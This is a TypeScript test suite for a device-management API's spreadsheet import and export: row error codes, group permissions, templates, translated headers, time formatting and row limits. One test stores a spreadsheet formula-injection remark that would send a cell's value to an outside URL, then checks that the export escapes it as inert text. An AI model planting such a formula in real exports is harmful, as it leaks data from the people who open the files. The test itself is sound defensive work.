import { randomBytes } from 'node:crypto';
import {
  DEVICE_CALLS,
  DEVICE_EXPORT_MAX_ROWS,
  DEVICE_PATHS,
  type Device,
  encodeListParam,
  type ImportResult,
  type ListPage,
  type MenusMap,
} from '@vap/contracts';
import { eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import DEVICES_ZH_CN from '../../../../../plugins/devices/src/locales/zh-CN.json' with { type: 'json' };
import { devices } from '../../core/db/devices.js';
import { executedRows } from '../../core/db/executed-rows.js';
import { DATE_TIME_FORMAT } from '../../core/http/xlsx-download.js';
import { multipart } from '../../testing/accounts.js';
import { ENGINES, type TestApp } from '../../testing/harness.js';
import { suiteApp } from '../../testing/suite-app.js';
import { sheetOf } from '../../testing/xlsx-answers.js';
import { DEVICE_EXPORT_COLUMNS } from './exchange-routes.js';
import { generateUnits } from './factory.js';
import { bindRecords } from './schema.js';
import { addGroup, addUnits, bind, call, memberWithGroups } from './test-support.js';

async function workbook(rows: unknown[][]): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('devices');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await book.xlsx.writeBuffer());
}

const PLAIN_HEADER = ['sn', 'username', 'password', 'remark'];
const OPERATOR: MenusMap = { dashboard: [], device_maintenance: ['import', 'export', 'bind'] };

describe.each(ENGINES)('device import and export (spec §3 import rows, §5.4) on %s', (engine) => {
  let t: TestApp;
  let owner: Record<string, string>;
  let companyId: number;
  suiteApp(engine, (app) => ({ t, owner, companyId } = app), { owner: 'own' });

  const upload = async (
    headers: Record<string, string>,
    fields: Record<string, string>,
    file?: { name: string; content: Buffer },
  ) => {
    const { body, contentType } = multipart(
      { filename: file?.name ?? '', filesize: '1', ...fields },
      file?.content ?? null,
      undefined,
      file?.name,
    );
    return t.app.inject({
      method: 'POST',
      url: `/webapi${DEVICE_PATHS.import}`,
      headers: { ...headers, 'content-type': contentType },
      payload: body,
    });
  };
  const importFile = async (
    headers: Record<string, string>,
    fields: Record<string, string>,
    rows: unknown[][],
  ) => {
    const response = await upload(headers, fields, { name: 'devices.xlsx', content: await workbook(rows) });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<ImportResult>();
  };
  const devicesOf = async (headers: Record<string, string>, sns: string[]) => {
    const all: Device[] = [];
    for (const sn of sns) {
      const one = encodeURIComponent(encodeListParam([{ k: 'sn', o: '=', v: sn }]));
      const page = await call(t, 'GET', `${DEVICE_PATHS.devices}?wheres=${one}`, headers);
      all.push(...page.json<ListPage<Device>>().items);
    }
    return all;
  };

  const member = (menus: MenusMap, groups: { all: true } | { ids: number[] }) =>
    memberWithGroups(t, companyId, menus, groups);

  it('reports each failing row by its number and code, binds nothing, then binds the valid rows when asked', async () => {
    const [first, second] = await addUnits(t, 2);
    const [stranger] = generateUnits({ count: 1, kind: 'ipc', seed: randomBytes(8).toString('hex') });
    if (!first || !second || !stranger) throw new Error('no units');
    const rows = [
      PLAIN_HEADER,
      [first.sn, 'admin', 'pw-1', '大厅'],
      ['1234', 'admin', 'pw', ''],
      [stranger.sn, 'admin', 'pw', ''],
      [second.sn, '', '', ''],
      [first.sn, 'again', 'pw', ''],
    ];
    const refused = await importFile(owner, { mode: 'plain', on_error: 'all' }, rows);
    expect(refused).toEqual({
      rows: 5,
      bound: 0,
      errors: [
        { row: 3, code: 1 },
        { row: 4, code: 2 },
        { row: 6, code: 4 },
      ],
    });
    expect(await devicesOf(owner, [first.sn, second.sn])).toEqual([]);

    const accepted = await importFile(owner, { mode: 'plain', on_error: 'valid' }, rows);
    expect(accepted).toMatchObject({ rows: 5, bound: 2 });
    const bound = await devicesOf(owner, [first.sn, second.sn]);
    expect(bound.map((device) => [device.sn, device.username, device.remark])).toEqual([
      [first.sn, 'admin', '大厅'],
      [second.sn, '', ''],
    ]);
    const records = await t.database.db.select().from(bindRecords).where(eq(bindRecords.sn, first.sn));
    expect(records).toMatchObject([{ action: 'bind', source: 'import' }]);
  });

  it('analyzes the device table at once after an import binds more than a tenth of it, so that its statistics count the new rows', async () => {
    const statistics = async () => {
      const [row] = executedRows<{ estimated: number; stored: number }>(
        await t.database.db.execute(sql`select (select reltuples from pg_class where oid = 'devices'::regclass)::float8 as estimated,
          (select count(*) from devices)::float8 as stored`),
      );
      return row;
    };
    const before = await statistics();
    const units = await addUnits(t, 120);
    const result = await importFile(owner, { mode: 'plain', on_error: 'all' }, [
      PLAIN_HEADER,
      ...units.map((unit, index) => [unit.sn, 'admin', `pw-${index}`, '']),
    ]);
    expect(result.bound).toBe(120);
    const after = await statistics();
    expect(after?.stored).toBe((before?.stored ?? 0) + 120);
    expect(after?.estimated).toBe(after?.stored);
  });

  it('reports a unit bound already as 3 and the rows past a full group as 5', async () => {
    const units = await addUnits(t, 3);
    const [taken, fits, over] = units;
    if (!taken || !fits || !over) throw new Error('no units');
    await bind(t, owner, taken);
    const group = await addGroup(t, owner, 1);
    const result = await importFile(owner, { mode: 'plain', on_error: 'valid', group_id: String(group) }, [
      PLAIN_HEADER,
      [taken.sn],
      [fits.sn],
      [over.sn],
    ]);
    expect(result).toEqual({
      rows: 3,
      bound: 1,
      errors: [
        { row: 2, code: 3 },
        { row: 4, code: 5 },
      ],
    });
    expect((await devicesOf(owner, [fits.sn]))[0]?.group_id).toBe(group);
  });

  it('binds GB28181 devices of template mode by name, national id and password', async () => {
    const [unit] = await addUnits(t, 1, 'nvr');
    if (!unit) throw new Error('no unit');
    const result = await importFile(owner, { mode: 'template' }, [
      ['name', 'gb28181_id', 'password', 'remark'],
      ['录像机_1', unit.sn, 'gb-pass', '机房'],
    ]);
    expect(result).toEqual({ rows: 1, bound: 1, errors: [] });
    expect(await devicesOf(owner, [unit.sn])).toMatchObject([
      { name: '录像机_1', gb28181_id: unit.sn, kind: 'nvr', remark: '机房' },
    ]);
  });

  it("answers an empty sheet with 400 'no device' and a file of another kind with import_file_invalid", async () => {
    const empty = await upload(
      owner,
      { mode: 'plain' },
      { name: 'empty.xlsx', content: await workbook([PLAIN_HEADER]) },
    );
    expect(empty.statusCode).toBe(400);
    expect(empty.json()).toMatchObject({ code: 'no_device' });
    const text = await upload(owner, { mode: 'plain' }, { name: 'notes.txt', content: Buffer.from('sn\n1') });
    expect(text.json()).toMatchObject({ code: 'import_file_invalid' });
    const noMode = await upload(owner, {}, { name: 'a.csv', content: Buffer.from('sn\n1') });
    expect(noMode.statusCode).toBe(400);
  });

  it('keeps a role limited to one group to that group, and refuses the import to a role without its button', async () => {
    const mine = await addGroup(t, owner, 10);
    const other = await addGroup(t, owner, 10);
    const limited = await member(OPERATOR, { ids: [mine] });
    const [unit] = await addUnits(t, 1);
    if (!unit) throw new Error('no unit');
    const outside = await upload(
      limited,
      { mode: 'plain', group_id: String(other) },
      {
        name: 'a.csv',
        content: Buffer.from(`sn\r\n${unit.sn}\r\n`),
      },
    );
    expect(outside.statusCode).toBe(404);
    const ungrouped = await upload(
      limited,
      { mode: 'plain' },
      { name: 'a.csv', content: Buffer.from(`sn\r\n${unit.sn}\r\n`) },
    );
    expect(ungrouped.statusCode).toBe(403);
    const inside = await upload(
      limited,
      { mode: 'plain', group_id: String(mine) },
      {
        name: 'a.csv',
        content: Buffer.from(`sn\r\n${unit.sn}\r\n`),
      },
    );
    expect(inside.json()).toMatchObject({ bound: 1 });

    const viewer = await member({ dashboard: [], device_maintenance: [] }, { all: true });
    const refused = await upload(
      viewer,
      { mode: 'plain' },
      { name: 'a.csv', content: Buffer.from(`sn\r\n${unit.sn}\r\n`) },
    );
    expect(refused.statusCode).toBe(403);
    expect((await call(t, 'GET', `${DEVICE_PATHS.export}`, viewer)).statusCode).toBe(403);
  });

  it('answers the templates of both modes as .xlsx and .csv', async () => {
    const xlsx = await call(t, 'GET', `${DEVICE_PATHS.importTemplate}?mode=template&format=xlsx`, owner);
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-disposition']).toContain('devices-template.xlsx');
    expect((await sheetOf(xlsx.rawPayload)).sheet.getRow(1).values).toEqual([
      undefined,
      'name',
      'gb28181_id',
      'password',
      'remark',
    ]);
    const csv = await call(t, 'GET', `${DEVICE_PATHS.importTemplate}?mode=plain&format=csv`, owner);
    expect(csv.body).toBe('\uFEFFsn,username,password,remark\r\n');
  });

  it("exports the filter as .xlsx in the list's order, with translated headers, limited to the caller's groups", async () => {
    const group = await addGroup(t, owner, 10);
    const units = await addUnits(t, 3);
    for (const unit of units) await bind(t, owner, unit, { group_id: group });
    const orders = encodeURIComponent(encodeListParam([{ k: 'sn', o: 'desc' }]));
    const wheres = encodeURIComponent(encodeListParam([{ k: 'group_id', o: '=', v: group }]));
    const response = await t.app.inject({
      method: 'GET',
      url: `/webapi${DEVICE_PATHS.export}?wheres=${wheres}&orders=${orders}`,
      headers: { ...owner, 'accept-language': 'en' },
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toContain('spreadsheetml');
    const { sheet } = await sheetOf(response.rawPayload);
    expect(sheet.getRow(1).getCell(1).value).toBe('Serial number');
    const sns = [2, 3, 4].map((row) => sheet.getRow(row).getCell(1).value);
    expect(sns).toEqual(
      units
        .map((unit) => unit.sn)
        .sort()
        .reverse(),
    );
    expect(sheet.getRow(2).getCell(11).value).toBe('Offline');

    const stranger = await member(OPERATOR, { ids: [] });
    const none = await t.app.inject({
      method: 'GET',
      url: `/webapi${DEVICE_PATHS.export}?wheres=${wheres}`,
      headers: stranger,
    });
    expect((await sheetOf(none.rawPayload)).sheet.rowCount).toBe(1);
  });

  it('exports a remark a spreadsheet would run as a formula as inert text, as the CSV exports do', async () => {
    const group = await addGroup(t, owner, 10);
    const [unit] = await addUnits(t, 1);
    if (!unit) throw new Error('no unit');
    const remark = '=HYPERLINK("http://example.com/?leak="&A1,"open")';
    const device = await bind(t, owner, unit, { group_id: group });
    const edited = await call(t, 'PATCH', DEVICE_PATHS.device(device.id), owner, {
      name: device.name,
      remark,
    });
    expect(edited.statusCode, edited.body).toBe(200);
    const wheres = encodeURIComponent(encodeListParam([{ k: 'group_id', o: '=', v: group }]));
    const response = await t.app.inject({
      method: 'GET',
      url: `/webapi${DEVICE_PATHS.export}?wheres=${wheres}`,
      headers: { ...owner, 'accept-language': 'en' },
    });
    const row = (await sheetOf(response.rawPayload)).sheet.getRow(2);
    expect(row.getCell(1).value).toBe(unit.sn);
    expect(row.getCell(19).value).toBe(`'${remark}`);
  });

  it('exports the binding records of a filter as .xlsx, newest first', async () => {
    const [unit] = await addUnits(t, 1);
    if (!unit) throw new Error('no unit');
    const device = await bind(t, owner, unit);
    await call(t, 'PATCH', DEVICE_PATHS.device(device.id), owner, { name: '改名_1' });
    const wheres = encodeURIComponent(encodeListParam([{ k: 'sn', o: '=', v: unit.sn }]));
    const response = await t.app.inject({
      method: 'GET',
      url: `/webapi${DEVICE_PATHS.bindRecordsExport}?wheres=${wheres}`,
      headers: { ...owner, 'accept-language': 'en' },
    });
    expect(response.statusCode, response.body).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet?.getRow(1).values).toEqual([
      undefined,
      'Time',
      'Serial number',
      'Action',
      'Before',
      'After',
      'Operator',
      'Source',
    ]);
    expect(
      [2, 3].map((row) => [sheet?.getRow(row).getCell(3).value, sheet?.getRow(row).getCell(5).value]),
    ).toEqual([
      ['Rename', '改名_1'],
      ['Bind', unit.sn],
    ]);
  });

  it("exports devices with the device list's headers and values, times as date cells of UTC+8 (issue 29)", async () => {
    const [unit] = await addUnits(t, 1);
    if (!unit) throw new Error('no unit');
    const device = await bind(t, owner, unit);
    await t.database.db
      .update(devices)
      .set({ lastOnlineAt: new Date('2026-11-26T12:55:11.494Z') })
      .where(eq(devices.id, device.id));
    const wheres = encodeURIComponent(encodeListParam([{ k: 'sn', o: '=', v: unit.sn }]));
    const response = await t.app.inject({
      method: 'GET',
      url: `/webapi${DEVICE_PATHS.export}?wheres=${wheres}`,
      headers: owner,
    });
    expect(response.statusCode, response.body).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    // The words of the device list (plugins/devices), which the export reads rather than repeats.
    const { device: words } = DEVICES_ZH_CN;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual([
      words.sn,
      words.name,
      words.model,
      words.kind,
      words.firmwareVersion,
      words.hardwareVersion,
      words.area,
      words.group,
      words.ip,
      words.mac,
      words.status,
      words.lastOnline,
      words.lastOffline,
      words.cloudBackup,
      words.cloudVideo,
      words.networkMode,
      words.gb28181Id,
      words.company,
      words.remark,
      words.boundAt,
    ]);
    expect([words.networkMode, words.company]).toEqual(['联网方式', '所属公司']);
    const row = sheet.getRow(2);
    const cell = (header: string) =>
      row.getCell(DEVICE_EXPORT_COLUMNS.findIndex(([key]) => key === header) + 1);
    expect(cell('device.networkMode').value).toBe('普通网络');
    expect(cell('device.kind').value).toBe(DEVICES_ZH_CN.kind.ipc);
    expect(cell('device.group').value).toBe(DEVICES_ZH_CN.groups.ungrouped);
    expect(cell('device.lastOffline').value).toBe(DEVICES_ZH_CN.common.never);
    // 2026-11-26T12:55:11.494Z, which the list shows as 2026年11月26日 20:55: a date cell of that time.
    expect(cell('device.lastOnline').value).toEqual(new Date('2026-11-26T20:55:11.494Z'));
    expect(cell('device.lastOnline').numFmt).toBe(DATE_TIME_FORMAT);
    const boundAt = cell('device.boundAt').value;
    expect(boundAt).toBeInstanceOf(Date);
    expect((boundAt as Date).getTime() - Date.parse(device.bound_at)).toBe(8 * 3_600_000);
  });

  it('refuses a binding-record export beyond 5000 records with the spec §8 message, as every log export (issue 29)', async () => {
    const prefix = `9${Date.now()}`.slice(0, 12);
    await t.database.db.insert(bindRecords).values(
      Array.from({ length: 5_001 }, (_, index) => ({
        companyId,
        deviceId: 1,
        sn: `${prefix}${String(index).padStart(8, '0')}`,
        action: 'bind' as const,
        operatorId: 1,
        source: 'console' as const,
      })),
    );
    const url = (wheres: object[]) =>
      `/webapi${DEVICE_PATHS.bindRecordsExport}?wheres=${encodeURIComponent(encodeListParam(wheres))}`;
    const refused = await t.app.inject({
      method: 'GET',
      url: url([{ k: 'sn', o: 'like', v: prefix }]),
      headers: owner,
    });
    expect(refused.statusCode).toBe(400);
    expect(refused.json()).toEqual({
      code: 'log_export_too_many_rows',
      message: '日志导出最多 5000 条，请缩小时间范围或筛选条件',
    });
    // 5000 are exported whole. (Another filter: the rows are written here without the change
    // counter a remembered total goes by.)
    await t.database.db
      .delete(bindRecords)
      .where(eq(bindRecords.sn, `${prefix}${String(5_000).padStart(8, '0')}`));
    const exported = await t.app.inject({
      method: 'GET',
      url: url([
        { k: 'sn', o: 'like', v: prefix },
        { k: 'source', o: '=', v: 'console' },
      ]),
      headers: owner,
    });
    expect(exported.statusCode, exported.body).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.rawPayload as unknown as ArrayBuffer);
    expect(book.worksheets[0]?.rowCount).toBe(5_001);
  });

  it('binds 10,000 rows of one workbook in one request', async () => {
    const units = await addUnits(t, 10_000);
    const result = await importFile(owner, { mode: 'plain' }, [
      PLAIN_HEADER,
      ...units.map((unit) => [unit.sn]),
    ]);
    expect(result).toEqual({ rows: 10_000, bound: 10_000, errors: [] });
    const records = await t.database.db
      .select({ sn: bindRecords.sn })
      .from(bindRecords)
      .where(eq(bindRecords.sn, units[9_999]?.sn ?? ''));
    expect(records).toHaveLength(1);
    // Beyond the default 30 s on a busy 2-core machine: each row also enters the trigram indexes of
    // its name and serial (migration 0030), about 2.5 s of a 10,000-row import on PGlite.
  }, 60_000);
});

// The declaration, free of zod, writes the figure of devices.ts (which carries zod) in its summary.
describe('the device export call', () => {
  it('names in its summary the most rows an export writes', () => {
    expect(DEVICE_CALLS.exportDevices.summary).toContain(`at most ${DEVICE_EXPORT_MAX_ROWS} rows`);
  });
});
